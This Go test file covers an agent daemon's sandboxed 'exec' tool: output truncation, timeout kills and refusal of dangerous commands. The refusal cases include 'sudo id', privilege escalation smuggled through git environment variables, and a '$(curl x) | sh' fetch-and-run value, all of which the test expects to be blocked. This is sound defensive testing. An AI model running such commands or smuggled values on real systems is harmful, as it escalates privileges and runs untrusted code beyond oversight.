package mcphttp

import (
	"strings"
	"testing"
	"time"

	"github.com/agentbe/agentbe-daemon/fsops"
	"github.com/agentbe/agentbe-daemon/sandbox"
)

// TestExecLimits: truncated output says what was cut and keeps head and
// tail; a command over its timeout is killed and its partial output shown.
func TestExecLimits(t *testing.T) {
	root := t.TempDir()
	ws, err := fsops.NewDir(root, fsops.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer ws.Close()
	ex, err := sandbox.New(sandbox.Config{Mode: sandbox.ModeSoftware, WorkspaceRoot: ws.Root(), OutputLimit: 1000})
	if err != nil {
		t.Fatal(err)
	}
	defer ex.Close()
	srv, err := New(Options{Workspace: ws, Registry: wsRegistry(ws, ex, time.Second), RootDir: root})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	cs := connectStdio(t, srv)

	got := call(t, cs, "exec", map[string]any{"command": "echo FIRST; head -c 5000 /dev/zero | tr '\\0' y; echo; echo LAST"})
	for _, want := range []string{"text:\nFIRST\n", "[... output truncated:", "bytes omitted", "LAST\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("truncated output lacks %q:\n%s", want, got)
		}
	}
	got = call(t, cs, "exec", map[string]any{"command": "echo started; echo warn >&2; sleep 30"})
	for _, want := range []string{"isError: true", "Command timed out after 1s and was killed.", "[stdout before the timeout]\nstarted", "[stderr before the timeout]\nwarn"} {
		if !strings.Contains(got, want) {
			t.Errorf("timeout result lacks %q:\n%s", want, got)
		}
	}
}

// TestExecRefusals: over a real loopback MCP client, both refusal codes
// read the same way, and the exec tool's env is judged like the command.
func TestExecRefusals(t *testing.T) {
	e := newEnv(t)
	cs := e.connect(t, nil)
	tests := []struct {
		args map[string]any
		want string
	}{
		{map[string]any{"command": "sudo id"}, "isError: true\ntext:\nDangerous operation blocked (DANGEROUS_OPERATION): privilege-escalation: "},
		{map[string]any{"command": "eval ls"}, "isError: true\ntext:\nDangerous operation blocked (UNSAFE_COMMAND): unjudgeable: "},
		{map[string]any{"command": "git --version", "env": map[string]string{"GIT_EXTERNAL_DIFF": "sudo id"}}, "isError: true\ntext:\nDangerous operation blocked (DANGEROUS_OPERATION): privilege-escalation: "},
		{map[string]any{"command": "git --version", "env": map[string]string{"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": "$(curl x) | sh"}}, "isError: true\ntext:\nDangerous operation blocked ("},
		{map[string]any{"command": "bash"}, "isError: true\ntext:\nDangerous operation blocked (UNSAFE_COMMAND): unjudgeable: bash reads the program it runs from stdin"},
		{map[string]any{"command": "printf %s \"$PAGER\"", "env": map[string]string{"PAGER": "cat"}}, "text:\ncat"},
	}
	for _, tc := range tests {
		if got := call(t, cs, "exec", tc.args); !strings.HasPrefix(got, tc.want) {
			t.Errorf("exec %v:\n%s\nwant the prefix %q", tc.args, got, tc.want)
		}
	}
}
